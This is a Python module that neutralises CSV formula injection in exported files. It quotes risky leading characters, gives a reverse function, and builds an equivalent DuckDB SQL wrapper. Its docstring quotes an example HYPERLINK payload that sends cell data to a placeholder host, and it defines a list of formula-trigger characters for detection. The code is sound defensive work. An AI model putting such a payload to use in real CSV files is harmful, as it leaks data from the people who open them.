"""Spreadsheet formula injection ("CSV injection") in the CSV files lagebild writes.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) that opens a CSV file evaluates a
cell whose text begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and some also when
a tab or carriage return comes first; article text, titles, actor names and URLs come
from untrusted documents, so ``=HYPERLINK("http://x/?"&A1)`` in a headline would run on
the analyst's machine. The rule applied here is OWASP's (CSV Injection, "Ensure that no
cells begin with any of the following characters … prepend them with a single quote"),
as OWASP ASVS 5.0 requirement 1.2.10 restates it (``=``, ``+``, ``-``, ``@``, tab and
NUL), with carriage return and the full-width forms ``＝ ＋ － ＠`` added:

* a TEXT cell whose first character is one of :data:`FORMULA_LEADS` gets a leading
  single quote (``'=1+1``), which every spreadsheet shows as text and hides the quote;
* numbers, dates, booleans and lists are typed columns, not text, and are written as
  they are (a Goldstein score of ``-10.0`` stays a number);
* quoting of separators and double quotes is the CSV writer's (pyarrow's or DuckDB's,
  RFC 4180).

A program that reads the CSV back gets the quote as part of the text: :func:`restore`
removes it again (``restore(neutralise(s)) == s`` for every string). JSON Lines and
Parquet exports are not spreadsheets' input and are written unchanged.
"""
from __future__ import annotations

from typing import Any, Iterable, Optional

# OWASP CSV Injection / ASVS 1.2.10, plus CR and the full-width forms (U+FF1D, FF0B, FF0D, FF20)
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r", "\0", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(cell: Optional[str]) -> Optional[str]:
    """``cell`` with a single quote in front when it begins with a formula character
    (:data:`FORMULA_LEADS`), else unchanged; ``None`` stays ``None``.

    A cell that already begins with a single quote gets one more, so that :func:`restore`
    can tell the two apart: ``neutralise("'=x") == "''=x"``."""
    if not cell:
        return cell
    if cell.lstrip("'")[:1] in FORMULA_LEADS:
        return "'" + cell
    return cell


def restore(cell: Optional[str]) -> Optional[str]:
    """The text :func:`neutralise` was given (for programs that read lagebild's CSV back):
    one leading quote is removed when what follows it begins, after any further quotes,
    with a formula character."""
    if cell and cell[0] == "'" and cell.lstrip("'")[:1] in FORMULA_LEADS:
        return cell[1:]
    return cell


def neutralise_table(table: Any) -> Any:
    """A pyarrow Table with every string column passed through :func:`neutralise`; other
    columns (numbers, dates, lists) unchanged."""
    import pyarrow as pa

    columns = []
    for field, column in zip(table.schema, table.columns):
        if pa.types.is_string(field.type) or pa.types.is_large_string(field.type):
            column = pa.array([neutralise(v) for v in column.to_pylist()], type=field.type)
        columns.append(column)
    return pa.Table.from_arrays(columns, schema=table.schema)


def _sql_string(s: str) -> str:
    return "'" + s.replace("'", "''") + "'"


def duckdb_select(select: str, text_columns: Iterable[str]) -> str:
    """``select`` (a DuckDB SELECT) wrapped so that each of ``text_columns`` (VARCHAR) is
    neutralised in SQL, the same rule as :func:`neutralise`; for ``COPY … TO … (FORMAT csv)``."""
    leads = ", ".join("chr(%d)" % ord(c) if not c.isprintable() else _sql_string(c) for c in FORMULA_LEADS)
    replaced = []
    for col in text_columns:
        q = '"' + col.replace('"', '""') + '"'
        replaced.append(
            f"CASE WHEN list_contains([{leads}], left(ltrim({q}, ''''), 1)) THEN '''' || {q} ELSE {q} END AS {q}"
        )
    if not replaced:
        return select
    return f"SELECT * REPLACE ({', '.join(replaced)}) FROM ({select}) AS _csv_rows"
